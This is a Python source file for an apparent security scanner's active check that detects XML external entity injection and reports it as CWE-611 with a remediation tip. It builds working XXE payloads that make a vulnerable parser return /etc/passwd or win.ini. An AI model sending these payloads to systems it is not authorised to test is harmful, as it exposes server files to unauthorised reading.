"""XML external entities (in band): an external entity's file content comes back."""

from __future__ import annotations

from nebsign.dast.checks._util import excerpt, inject
from nebsign.dast.checks.interface import ActiveCheck, CheckContext, Hit
from nebsign.dast.checks.traversal import FILE_PROOF
from nebsign.dast.model import Endpoint, Param, RequestSpec, Response
from nebsign.findings import Severity

__all__ = ["Xxe", "xxe_payloads"]


def xxe_payloads(root: str = "nebsign") -> list[str]:
    return [
        f'<?xml version="1.0"?><!DOCTYPE {root} [<!ENTITY xxe SYSTEM "{uri}">]>'
        f"<{root}>&xxe;</{root}>"
        for uri in ("file:///etc/passwd", "file:///c:/windows/win.ini")
    ]


class Xxe(ActiveCheck):
    rule_id = "xxe"
    title = "XML external entity injection"
    severity = Severity.CRITICAL
    cwe = ("CWE-611",)
    recommendation = "Disable DTDs and external entities in the XML parser (e.g. defusedxml)."

    async def check_param(self, ctx: CheckContext, endpoint: Endpoint, param: Param) -> list[Hit]:
        if not param.value.lstrip().startswith("<"):
            return []
        for payload in xxe_payloads():
            spec, resp = await inject(ctx, endpoint, param, payload)
            if resp is not None and (m := FILE_PROOF.search(resp.text)):
                return [self._hit(spec, resp, param.name, payload, m.group(0))]
        return []

    async def check_endpoint(self, ctx: CheckContext, endpoint: Endpoint) -> list[Hit]:
        if endpoint.body_type != "xml":
            return []
        for payload in xxe_payloads():
            spec = RequestSpec(
                endpoint.method,
                endpoint.url,
                body=payload.encode(),
                headers=(("Content-Type", "application/xml"),),
            )
            resp = await ctx.send(spec)
            if resp is not None and (m := FILE_PROOF.search(resp.text)):
                return [self._hit(spec, resp, None, payload, m.group(0))]
        return []

    def _hit(
        self, spec: RequestSpec, resp: Response, name: str | None, payload: str, found: str
    ) -> Hit:
        return Hit(
            request=spec,
            response=resp,
            parameter=name,
            payload=payload,
            proof=excerpt(resp.text, found, 60),
            message="the XML parser resolved an external entity and returned a system file",
        )
